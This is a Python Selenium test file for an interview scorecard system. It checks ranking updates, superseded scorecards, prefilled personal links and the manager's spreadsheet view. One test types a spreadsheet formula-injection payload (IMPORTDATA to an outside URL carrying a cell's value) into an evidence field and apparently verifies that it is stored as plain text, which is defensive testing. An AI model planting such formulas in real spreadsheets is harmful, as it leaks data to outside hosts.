"""From the personal link to the ranking: what an interviewer types in a browser decides what the manager reads."""

from __future__ import annotations

import pytest
from selenium.webdriver.common.by import By
from selenium.webdriver.remote.webdriver import WebDriver

from tests.conftest import Google, Run

from .conftest import answer, block, cell, fill_form, press, shown, wait_for

pytestmark = pytest.mark.browser


def personal_link(run: Run, candidate: str, round_id: str) -> str:
    interviews = run("status", "--json").json["interviews"]
    return next(i["link"] for i in interviews if (i["candidate"], i["round"]) == (candidate, round_id))


def test_a_scorecard_typed_in_the_browser_changes_the_ranking(
    browser: WebDriver, google: Google, run: Run, scorecards: dict[str, str]
) -> None:
    """Ivo thinks again about Ben: his later scorecard takes the place of the first, and Ben passes Ana."""
    run("run")
    assert [row["candidate"] for row in run("rank", "--json").json["candidates"]] == ["Ana", "Ben"]

    browser.get(personal_link(run, "Ben", "technical"))
    press(browser, "Next")
    answer(browser, "How do you speed up a slow join?", "5 · Outstanding: weighs what an index costs")
    press(browser, "Next")
    missing = block(browser, "How do you change a live schema?").find_element(By.CSS_SELECTOR, ".fault")
    assert "needs an answer" in missing.text
    answer(browser, "How do you change a live schema?", "5 · Outstanding: in steps that can be undone")
    answer(browser, "Evidence: Databases", '=IMPORTDATA("https://example.com/?"&A1)')
    press(browser, "Next")
    answer(browser, "How do you stop cross-site scripting?", "5 · Outstanding: escapes and sets a policy")
    press(browser, "Next")
    fill_form(browser, {"Overall recommendation": "Strong yes"})

    run("run")

    assert [row["candidate"] for row in run("rank", "--json").json["candidates"]] == ["Ben", "Ana"]
    rows = [row for row in google.table(scorecards["spreadsheet"], "Scorecards") if row["Candidate"] == "Ben"]
    assert sorted((row["Round"], row["Status"]) for row in rows) == [
        ("team", "counted"), ("technical", "counted"), ("technical", "superseded"),
    ]  # fmt: skip
    counted = next(row for row in rows if row["Round"] == "technical" and row["Status"] == "counted")
    assert counted["Evidence: databases"] == '=IMPORTDATA("https://example.com/?"&A1)'


def test_the_personal_link_brings_candidate_and_address_along(
    browser: WebDriver, run: Run, role: dict[str, str]
) -> None:
    """Nobody has to type either, and nobody can mistype them."""
    browser.get(personal_link(run, "Ben", "team"))
    chosen = block(browser, "Candidate").find_element(By.CSS_SELECTOR, "option:checked")
    assert chosen.text == "Ben"
    assert shown(browser, "#emailAddress")[0].get_attribute("value") == "mara@example.com"


def test_a_manager_reads_the_ranking_in_the_spreadsheets_page(
    browser: WebDriver, google: Google, run: Run, scorecards: dict[str, str]
) -> None:
    """Best first, with scores to two decimals, the managers' columns at the right, and the worksheets as tabs."""
    run("run")
    browser.get(f"{google.url}/spreadsheets/d/{scorecards['spreadsheet']}/edit?token={google.token}")
    wait_for(browser, lambda: cell(browser, "C2").text == "Ana", "the ranking is not shown")
    assert [cell(browser, name).text for name in ("A2", "C2", "D2", "A3", "C3")] == ["1", "Ana", "3.95", "2", "Ben"]
    tabs = [tab.text for tab in shown(browser, "nav.tabs a")]
    assert tabs[:3] == ["Rankings", "What-if", "Compare"]
